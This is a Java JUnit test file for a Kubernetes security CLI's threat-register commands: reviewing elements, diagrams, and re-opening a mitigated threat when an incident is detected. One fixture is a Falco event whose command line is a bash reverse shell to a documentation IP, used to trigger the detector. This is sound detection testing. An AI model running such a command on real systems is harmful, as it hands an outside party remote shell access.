package dev.gatehouse.cli.threats;

import static org.assertj.core.api.Assertions.assertThat;

import dev.gatehouse.cli.CommandLineRun;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ThreatsCommandTest {
    @TempDir
    Path root;

    private static final String INGRESS = """
            apiVersion: networking.k8s.io/v1
            kind: Ingress
            metadata: {name: shop, namespace: shop}
            spec:
              tls: [{hosts: [shop.example]}]
              defaultBackend: {service: {name: shop}}
            """;

    @BeforeEach
    void write() throws Exception {
        Files.createDirectories(root.resolve("deploy"));
        Files.writeString(root.resolve("deploy/ingress.yaml"), INGRESS);
    }

    private CommandLineRun run(String... arguments) {
        return CommandLineRun.of(Map.of("XDG_CACHE_HOME", root.resolve("cache").toString()), arguments);
    }

    @Test
    void anUnreviewedWayInFailsUntilSomebodyReviewsIt() throws Exception {
        CommandLineRun first = run("threats", "check", root.toString());
        assertThat(first.code()).isEqualTo(1);
        assertThat(first.out()).contains("+ kubernetes/shop/ingress/shop  (ingress, deploy/ingress.yaml:1)",
                "threat-unreviewed-element");

        CommandLineRun review = run("threats", "review", "--by", "kim@example.com", "--root", root.toString());
        assertThat(review.out()).contains("1 element reviewed in threats.yaml");
        assertThat(Files.readString(root.resolve("threats.yaml")))
                .contains("  - id: kubernetes/shop/ingress/shop\n    by: kim@example.com\n");
        CommandLineRun second = run("threats", "check", root.toString());
        assertThat(second.code()).as(second.out() + second.err()).isZero();
        assertThat(second.out()).doesNotContain("+++");
    }

    @Test
    void aScanSpeaksOfThreatsOnlyWhereTheRepositoryHasARegister() throws Exception {
        assertThat(run("scan", "--format", "csv", root.toString()).out()).doesNotContain("threat-");
        Files.writeString(root.resolve("threats.yaml"), "version: 1\n");
        assertThat(run("scan", "--format", "csv", root.toString()).out()).contains("threat-unreviewed-element");
        assertThat(run("scan", "--skip", "threatmodel", "--format", "csv", root.toString()).out()).doesNotContain("threat-");
    }

    @Test
    void anOpenIncidentReopensTheThreatThatItShowsUntilItIsResolved() throws Exception {
        Files.writeString(root.resolve("deploy/checkout.yaml"), """
                apiVersion: apps/v1
                kind: Deployment
                metadata: {name: checkout, namespace: shop}
                spec:
                  template:
                    spec:
                      serviceAccountName: checkout
                      containers:
                        - name: checkout
                          image: registry.example/checkout@sha256:%s
                          securityContext: {privileged: true}
                          resources: {limits: {memory: 64Mi}}
                """.formatted("1f".repeat(32)));
        run("threats", "review", "--by", "kim@example.com", "--root", root.toString());
        Path register = root.resolve("threats.yaml");
        String answer = """
                threats:
                  - id: "powerful-workload: kubernetes/shop/deployment/checkout"
                    status: mitigated
                    reason: the node runs nothing else
                    by: kim@example.com
                    on: 2026-03-01
                """;
        Files.writeString(register, Files.readString(register).replaceFirst("(?m)^threats:.*\\R?", "") + answer);
        CommandLineRun answered = run("threats", "check", root.toString());
        assertThat(answered.code()).as(answered.out() + answered.err()).isZero();

        Path events = Files.writeString(root.resolve("falco.jsonl"),
                """
                        {"rule":"x","time":"2026-03-01T10:00:00Z","output_fields":{"proc.name":"bash","proc.cmdline":"bash -i >& /dev/tcp/203.0.113.7/4444","container.image.digest":"sha256:%s","k8s.ns.name":"shop","k8s.pod.name":"checkout-7d9f5c-x2x"}}
                        """
                        .formatted("1f".repeat(32)));
        String ledger = root.resolve("ledger").toString();
        assertThat(run("detect", "--input", events.toString(), "--open-incidents", "--ledger", ledger).err())
                .contains("incident opened: Shell connected to the network");
        CommandLineRun reopened = run("threats", "check", "--ledger", ledger, root.toString());
        assertThat(reopened.code()).as(reopened.out() + reopened.err()).isEqualTo(1);
        assertThat(reopened.out()).contains("threat-powerful-workload");
        assertThat(run("threats", "check", "--ledger", ledger, "--format", "json", root.toString()).out())
                .contains("answered as mitigated by kim@example.com, re-opened by incident: Shell connected to the network");

        for (int i = 0; i < 5 && run("incident", "list", "--ledger", ledger).code() == 1; i++) {
            String id = run("incident", "list", "--ledger", ledger).out().lines().filter(line -> line.startsWith("open"))
                    .findFirst().map(_ -> run("incident", "list", "--ledger", ledger).out()).orElseThrow();
            String open = id.substring(id.indexOf("open "));
            run("incident", "resolve", open.substring(open.indexOf("detection/1:"), open.indexOf(" on ")), "--reason", "rebuilt",
                    "--ledger", ledger);
        }
        assertThat(run("threats", "check", "--ledger", ledger, root.toString()).code()).isZero();
    }

    @Test
    void theDiagramIsDrawnAsTextAndAsPicture() throws Exception {
        assertThat(run("threats", "diagram", "--root", root.toString()).out()).startsWith("flowchart LR\n")
                .contains("{{\"shop\"}}");
        Path picture = root.resolve("model.svg");
        assertThat(run("threats", "diagram", "--root", root.toString(), "--output", picture.toString()).code()).isZero();
        assertThat(Files.readString(picture)).startsWith("<svg ").contains(">shop</text>");
    }

    @Test
    void aMistakeInTheRegisterIsAUsageErrorWithItsLine() throws Exception {
        Files.writeString(root.resolve("threats.yaml"), "version: 1\nreviewd: []\n");
        for (CommandLineRun run : new CommandLineRun[]{run("threats", "check", root.toString()), run("scan", root.toString())}) {
            assertThat(run.code()).isEqualTo(2);
            assertThat(run.err()).contains("threats.yaml:2:").contains("reviewed");
        }
    }
}
